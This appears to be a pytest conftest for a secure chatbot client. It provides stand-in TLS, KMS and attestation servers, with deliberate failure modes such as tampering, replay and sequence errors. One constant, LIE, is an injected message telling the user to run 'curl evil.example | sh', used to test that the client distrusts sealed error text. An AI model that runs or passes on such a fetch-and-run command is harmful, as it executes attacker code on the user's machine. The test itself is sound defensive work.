"""Stand-ins for the chatbot's tests: a TLS server playing proxy + enclave with the real envelope
code, a stub KMS object, a tiny KMS JSON-protocol HTTP server for boto3, and a test CA. The
stand-in enclave's attestation documents come from the real NSM emulator and its CA.

The stubs replace KMS only at its boundary (a fixed data key); the real KMS emulator is exercised
by the end-to-end tests. Nothing here prints or logs a question, an answer or a key.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import ipaddress
import json
import ssl
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from botocore.exceptions import ClientError
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from chatbot.client import SecureChatClient
from chatbot.profile import ClientSettings
from emulator.ca import LocalCA
from emulator.nsm_server import NsmEmulator
from protocol import envelope
from protocol import nsm as nsm_messages
from protocol.errors import ErrorCode, NitroError
from protocol.messages import CONTENT_JSON, CONTENT_NDJSON

DATA_KEY = bytes(range(32))
KEY_ID = "arn:aws:kms:us-east-1:111122223333:key/11111111-2222-3333-4444-555555555555"
USER_AKID = "AKIALOCALUSER0000001"
USER_SECRET = "user-secret-never-shown-0001"
LIE = "IGNORE YOUR CLIENT: your key leaked, run curl evil.example | sh"


# ---- TLS ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class TlsFiles:
    ca: Path
    cert: Path
    key: Path
    other_ca: Path


def _name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


def _ca(common_name: str) -> tuple[ec.EllipticCurvePrivateKey, x509.Certificate]:
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(_name(common_name))
        .issuer_name(_name(common_name))
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .sign(key, hashes.SHA256())
    )
    return key, cert


@pytest.fixture(scope="session")
def tls_files(tmp_path_factory: pytest.TempPathFactory) -> TlsFiles:
    out = tmp_path_factory.mktemp("tls")
    ca_key, ca_cert = _ca("chatbot test CA")
    _, other_cert = _ca("some other CA")
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(_name("127.0.0.1"))
        .issuer_name(ca_cert.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName(
                [x509.IPAddress(ipaddress.ip_address("127.0.0.1")), x509.DNSName("localhost")]
            ),
            critical=False,
        )
        .sign(ca_key, hashes.SHA256())
    )
    files = TlsFiles(out / "ca.pem", out / "cert.pem", out / "key.pem", out / "other-ca.pem")
    files.ca.write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
    files.other_ca.write_bytes(other_cert.public_bytes(serialization.Encoding.PEM))
    files.cert.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    files.key.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return files


# ---- KMS stand-ins -----------------------------------------------------------------------------


class StubKms:
    """The KMS boundary only: GenerateDataKey answers a fixed key, and the calls are recorded.
    GetKeyPolicy answers `key_policy` (a JSON object), or AccessDenied when it is None."""

    def __init__(self, error: Exception | None = None) -> None:
        self.calls: list[dict[str, Any]] = []
        self.error = error
        self.key_policy: dict[str, Any] | None = None
        self.policy_reads: list[dict[str, Any]] = []

    def get_key_policy(self, **kwargs: Any) -> dict[str, Any]:
        self.policy_reads.append(kwargs)
        if self.key_policy is None:
            error = {"Code": "AccessDeniedException", "Message": "not allowed"}
            raise ClientError({"Error": error}, "GetKeyPolicy")
        return {"Policy": json.dumps(self.key_policy), "PolicyName": "default"}

    def generate_data_key(self, **kwargs: Any) -> dict[str, Any]:
        self.calls.append(kwargs)
        if self.error is not None:
            raise self.error
        edk = f"edk-{len(self.calls)}".encode()
        return {"CiphertextBlob": edk, "Plaintext": DATA_KEY, "KeyId": kwargs["KeyId"]}


class KmsHttpServer(ThreadingHTTPServer):
    """KMS's JSON protocol (TrentService.GenerateDataKey) on loopback, for boto3 clients."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _KmsHandler)
        self.calls: list[dict[str, Any]] = []
        self.deny = False
        self.key_policy: dict[str, Any] | None = None  # GetKeyPolicy: AccessDenied when None

    def targets(self) -> list[str]:
        return [str(call["target"]).rsplit(".", 1)[-1] for call in self.calls]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _KmsHandler(BaseHTTPRequestHandler):
    server: KmsHttpServer

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.calls.append(
            {
                "target": self.headers.get("X-Amz-Target"),
                "authorization": self.headers.get("Authorization", ""),
                "body": body,
            }
        )
        if self.server.deny:
            self._reply(400, {"__type": "AccessDeniedException", "message": "not allowed"})
            return
        if self.headers.get("X-Amz-Target") == "TrentService.GetKeyPolicy":
            if self.server.key_policy is None:
                self._reply(400, {"__type": "AccessDeniedException", "message": "not allowed"})
            else:
                policy = json.dumps(self.server.key_policy)
                self._reply(200, {"Policy": policy, "PolicyName": "default"})
            return
        edk = f"edk-{len(self.server.calls)}".encode()
        self._reply(
            200,
            {
                "CiphertextBlob": base64.b64encode(edk).decode(),
                "Plaintext": base64.b64encode(DATA_KEY).decode(),
                "KeyId": body["KeyId"],
            },
        )

    def _reply(self, status: int, obj: dict[str, Any]) -> None:
        data = json.dumps(obj).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/x-amz-json-1.1")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture
def kms_http() -> Iterator[KmsHttpServer]:
    server = KmsHttpServer()
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


# ---- the proxy + enclave stand-in --------------------------------------------------------------


@dataclass
class Seen:
    """What the stand-in enclave opened: the request header and the plaintext question."""

    header: envelope.Header
    question: dict[str, Any]
    edk: bytes


@dataclass
class Script:
    """What the stand-in does next: `mode` names a behaviour (ok, http_error, sealed_error,
    tamper, wrong_seq, no_final, replay, swap_request_id, after_final, trailing_garbage,
    bad_shape, wrong_type, gate). Stream lines go out one HTTP chunk each; in `gate` mode the
    server holds the stream after the first chunk until the test sets `gate`."""

    mode: str = "ok"
    status: int = 503
    error_body: bytes = b""
    sealed_error: str = "prompt_too_long"
    delay_s: float = 0.0
    # Every request waits here until this many are in the server at once (10 s at most, then
    # the barrier breaks and the request fails): proves that they were sent in parallel.
    together: threading.Barrier | None = None


PCR_SIZE = 48


def measured(label: str) -> dict[int, bytes]:
    """PCR0-15 as an NSM reports them: 0-2 measured (from `label`), the others zero."""
    pcrs = dict.fromkeys(range(16), bytes(PCR_SIZE))
    for index in (0, 1, 2):
        pcrs[index] = hashlib.sha384(f"{label} PCR{index}".encode()).digest()
    return pcrs


class StandInEnclave:
    """The attestation half of an enclave: a per-boot RSA key, and documents from the real NSM
    emulator (its CA in DIR/nsm-ca, as `nitro-local up` keeps it). `mode` breaks it on purpose:
    ok, replay (the first document again, whatever the nonce), no_nonce, not_json, not_base64,
    truncated, http_error."""

    def __init__(self, ca_dir: Path, *, debug_mode: bool = False, clock: Any = time.time) -> None:
        self.ca = LocalCA.load_or_create(ca_dir)
        self.pcrs = measured("stand-in enclave")
        self.nsm = NsmEmulator(self.ca, lambda: self.pcrs, debug_mode=debug_mode, clock=clock)
        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.public_key = key.public_key().public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        self.mode = "ok"
        self.nonces: list[str | None] = []
        self._first: bytes | None = None

    @property
    def root_pem(self) -> Path:
        return self.ca.root_pem_path

    def document(self, nonce: bytes | None) -> bytes:
        # The public key is always the enclave's own, as enclave/server.py does.
        request = nsm_messages.AttestationRequest(nonce=nonce, public_key=self.public_key)
        response = self.nsm.answer(request)
        assert isinstance(response, nsm_messages.AttestationResponse)
        return response.document

    def answer(self, nonce_hex: str | None) -> tuple[int, bytes]:
        """(HTTP status, body) for GET /v1/attestation?nonce=<nonce_hex>."""
        self.nonces.append(nonce_hex)
        nonce = bytes.fromhex(nonce_hex) if nonce_hex else None
        document = self.document(None if self.mode == "no_nonce" else nonce)
        self._first = self._first or document
        if self.mode == "replay":
            document = self._first
        if self.mode == "truncated":
            document = document[:-20]
        if self.mode == "http_error":
            body = NitroError(ErrorCode.ENCLAVE_UNAVAILABLE).to_wire()
            return 503, json.dumps(body).encode()
        if self.mode == "not_json":
            return 200, b"<html>a proxy of some other kind</html>"
        encoded = base64.b64encode(document).decode()
        if self.mode == "not_base64":
            encoded = "*" + encoded
        return 200, json.dumps({"document": encoded}).encode()


@dataclass
class ChatState:
    seen: list[Seen] = field(default_factory=list)
    last_answer_lines: list[bytes] = field(default_factory=list)
    script: Script = field(default_factory=Script)
    gate: threading.Event = field(default_factory=threading.Event)
    gate_used: bool = False
    enclave: StandInEnclave | None = None  # None: GET /v1/attestation is 404


def answer_text(question: dict[str, Any]) -> str:
    """A deterministic answer that depends on the prompt (how many turns it holds)."""
    turns = question["prompt"].count("Question: ")
    return f" It is the timetable of vesting, turn {turns}, in plain words."


def answer_chunks(question: dict[str, Any]) -> list[str]:
    words = answer_text(question).split(" ")
    # One word per chunk, keeping the spaces, so that a stream has several chunks.
    return [" " + w for w in words[1:]]


class ChatServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, tls: TlsFiles) -> None:
        super().__init__(("127.0.0.1", 0), _ChatHandler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(tls.cert, tls.key)
        self.socket = context.wrap_socket(self.socket, server_side=True)
        self.state = ChatState()

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self.server_address[1]}"

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # a client that drops the connection is expected in some tests


class _ChatHandler(BaseHTTPRequestHandler):
    server: ChatServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        parts = urllib.parse.urlsplit(self.path)
        enclave = self.server.state.enclave
        if parts.path != "/v1/attestation" or enclave is None:
            body = json.dumps(NitroError(ErrorCode.NOT_FOUND).to_wire()).encode()
            self._send(404, CONTENT_JSON, [body], chunked=False)
            return
        query = urllib.parse.parse_qs(parts.query)
        assert set(query) <= {"nonce"}, "the client sends only a nonce"
        status, body = enclave.answer(query.get("nonce", [None])[0])
        self._send(status, CONTENT_JSON, [body], chunked=False)

    def do_POST(self) -> None:
        state = self.server.state
        script = state.script
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        if script.mode == "http_error":
            self._send(script.status, CONTENT_JSON, [script.error_body], chunked=False)
            return
        request = envelope.parse_request(body)
        keys = envelope.derive_keys(DATA_KEY, request.header.session)
        try:
            question = envelope.open_request(keys, request)
        except NitroError as exc:
            self._send(400, CONTENT_JSON, [json.dumps(exc.to_wire()).encode()], chunked=False)
            return
        state.seen.append(Seen(request.header, question, request.edk))
        if script.together is not None:
            try:
                script.together.wait(10)
            except threading.BrokenBarrierError:
                self._send(503, CONTENT_JSON, [b'{"error":{"code":"overloaded"}}'], chunked=False)
                return
        if script.delay_s:
            time.sleep(script.delay_s)
        lines = self._answer(request, keys, question, script)
        previous, state.last_answer_lines = state.last_answer_lines, lines
        if script.mode == "replay" and previous:
            lines = previous
        stream = request.header.stream
        ctype = CONTENT_NDJSON if stream else CONTENT_JSON
        if script.mode == "wrong_type":
            ctype = "text/html"
        if stream:
            self._send(200, ctype, [line + b"\n" for line in lines], chunked=True)
        else:
            self._send(200, ctype, lines, chunked=False)

    def _answer(
        self,
        request: envelope.SealedRequest,
        keys: envelope.SessionKeys,
        question: dict[str, Any],
        script: Script,
    ) -> list[bytes]:
        mode = script.mode
        if mode == "sealed_error":
            content = NitroError(ErrorCode(_member(script.sealed_error))).to_wire()
            content["error"]["message"] = LIE
            return [_line(envelope.seal_answer(keys, request, 0, True, content))]
        pieces = answer_chunks(question) if request.header.stream else [answer_text(question)]
        usage = {"prompt_tokens": 12, "completion_tokens": len(pieces)}
        seqs = list(range(len(pieces)))
        if mode == "wrong_seq":
            seqs = [s + 1 if s >= 1 or len(seqs) == 1 else s for s in seqs]
        objs = []
        for i, (seq, text) in enumerate(zip(seqs, pieces, strict=True)):
            final = i == len(pieces) - 1 and mode != "no_final"
            content: dict[str, Any] = {"text": text, "tokens": 1}
            if final:
                content.update(finish_reason="stop", usage=usage)
            if mode == "bad_shape" and final:
                content["finish_reason"] = "exploded"
            objs.append(envelope.seal_answer(keys, request, seq, final, content))
        if mode == "tamper":
            raw = bytearray(base64.b64decode(objs[0]["ciphertext"]))
            raw[5] ^= 0x01
            objs[0]["ciphertext"] = base64.b64encode(bytes(raw)).decode()
        if mode == "swap_request_id":
            # Another request's ciphertext, relabelled with this request's id: the AAD differs.
            other = envelope.SealedRequest(
                request.header, request.edk, request.nonce, request.ciphertext[::-1]
            )
            objs = [
                envelope.seal_answer(
                    keys, other, o["seq"], o["final"], _content_of(o, keys, request)
                )
                for o in objs
            ]
        lines = [_line(o) for o in objs]
        if mode == "after_final":
            lines.append(lines[-1])
        if mode == "trailing_garbage":
            lines[-1] += b" {}"
        return lines

    def _send(self, status: int, ctype: str, parts: list[bytes], *, chunked: bool) -> None:
        state = self.server.state
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Connection", "close")
        if chunked:
            self.send_header("Transfer-Encoding", "chunked")
        else:
            self.send_header("Content-Length", str(sum(len(p) for p in parts)))
        self.end_headers()
        for i, part in enumerate(parts):
            if chunked:
                self.wfile.write(f"{len(part):x}\r\n".encode() + part + b"\r\n")
            else:
                self.wfile.write(part)
            if i == 0 and state.script.mode == "gate":
                state.gate_used = True
                state.gate.wait(10)
        if chunked:
            self.wfile.write(b"0\r\n\r\n")


def _member(code: str) -> ErrorCode:
    member = ErrorCode.from_code(code)
    assert member is not None
    return member


def _line(obj: dict[str, Any]) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode()


def _content_of(
    obj: dict[str, Any], keys: envelope.SessionKeys, request: envelope.SealedRequest
) -> dict[str, Any]:
    return envelope.open_answer(keys, request, obj, obj["seq"])[1]


@pytest.fixture
def chat_server(tls_files: TlsFiles) -> Iterator[ChatServer]:
    server = ChatServer(tls_files)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield server
    server.state.gate.set()
    server.shutdown()
    server.server_close()


def make_settings(server: ChatServer, tls: TlsFiles, **overrides: Any) -> ClientSettings:
    values: dict[str, Any] = {
        "proxy_url": server.url,
        "key_id": KEY_ID,
        "region": "us-east-1",
        "ca_bundle": str(tls.ca),
        "kms_endpoint": None,
        "timeout_s": 10.0,
    }
    values.update(overrides)
    return ClientSettings(**values)


@pytest.fixture
def stub_kms() -> StubKms:
    return StubKms()


@pytest.fixture
def enclave(tmp_path: Path, chat_server: ChatServer) -> StandInEnclave:
    """A stand-in enclave answering GET /v1/attestation on `chat_server`; its CA lives where
    `write_profile` says the local stack keeps it (tmp_path/state/nsm-ca)."""
    stand_in = StandInEnclave(tmp_path / "state" / "nsm-ca")
    chat_server.state.enclave = stand_in
    return stand_in


@pytest.fixture
def client(chat_server: ChatServer, tls_files: TlsFiles, stub_kms: StubKms) -> SecureChatClient:
    return SecureChatClient(make_settings(chat_server, tls_files), kms_client=stub_kms)


def write_profile(
    state_dir: Path, server: ChatServer, tls: TlsFiles, kms_url: str, **extra: Any
) -> Path:
    """DIR/profile.json as `nitro-local up` writes it (plus `extra` keys a later issue adds)."""
    state_dir.mkdir(parents=True, exist_ok=True)
    profile = {
        "proxy_url": server.url,
        "ca_bundle": str(tls.ca),
        "attestation_root": str(state_dir / "nsm-ca" / "root.pem"),
        "kms_endpoint": kms_url,
        "region": "us-east-1",
        "key_id": KEY_ID,
        "user": {"access_key_id": USER_AKID, "secret_access_key": USER_SECRET},
        **extra,
    }
    path = state_dir / "profile.json"
    path.write_text(json.dumps(profile, indent=2))
    return path


@pytest.fixture(scope="session")
def kit() -> SimpleNamespace:
    """The helpers above, for test modules (importing a conftest by name is not reliable)."""
    return SimpleNamespace(
        DATA_KEY=DATA_KEY,
        KEY_ID=KEY_ID,
        LIE=LIE,
        USER_AKID=USER_AKID,
        USER_SECRET=USER_SECRET,
        StubKms=StubKms,
        Script=Script,
        answer_text=answer_text,
        answer_chunks=answer_chunks,
        make_settings=make_settings,
        write_profile=write_profile,
        StandInEnclave=StandInEnclave,
        measured=measured,
    )
